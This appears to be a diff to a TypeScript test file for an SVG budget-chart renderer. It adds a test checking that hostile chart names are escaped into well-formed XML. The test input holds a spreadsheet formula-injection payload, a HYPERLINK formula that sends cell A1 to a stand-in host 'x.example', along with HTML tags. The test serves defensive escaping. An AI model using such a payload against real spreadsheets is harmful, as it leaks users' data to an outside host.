@@ -2,7 +2,7 @@
 import { readFileSync } from 'node:fs';
 import { Resvg } from '@resvg/resvg-js';
 import { describe, expect, it } from 'vitest';
-import { fileSvg, withoutTooltips } from '../../src/site/charts.ts';
+import { fileSvg, renderBudgetLines, withoutTooltips } from '../../src/site/charts.ts';
 
 describe('fileSvg: a chart as written to its own file', () => {
   const snap = readFileSync(new URL('../charts/snapshots/budgetLinesMinisterio.svg', import.meta.url), 'utf8');
@@ -49,5 +49,20 @@ describe('withoutTooltips: the phone file of a chart', () => {
   it('leaves a chart without tooltips as it is', () => {
     const svg = '<svg role="img" aria-label="Sin datos"><text x="1" y="2">No se pudo dibujar este gráfico</text></svg>';
     expect(withoutTooltips(svg)).toBe(svg);
+  });
+});
+
+describe('chart files of hostile names', () => {
+  it('a name with &, quotes and tags gives a well-formed file that keeps the name as written', () => {
+    const name = '=HYPERLINK("http://x.example/?leak="&A1,"clic") &lt;b&gt; <i>';
+    const chart = renderBudgetLines(
+      [{ label: 'Bienes & servicios <x>', planned: 10, executed: 5, file: 'a.txt', line: 3 } as never],
+      { ariaLabel: `Presupuesto, ${name}`, description: 'Una línea.' } as never,
+    );
+    for (const svg of [chart.wide, fileSvg(chart.wide)]) {
+      expect(/aria-label="([^"]*)"/.exec(svg)![1]).toBe('Presupuesto, =HYPERLINK(&quot;http://x.example/?leak=&quot;&amp;A1,&quot;clic&quot;) &amp;lt;b&amp;gt; &lt;i&gt;');
+    }
+    // svgo parses it as XML (it threw «Invalid character in entity name» on the raw &A1).
+    expect(fileSvg(chart.wide)).not.toContain('<style>');
   });
 });
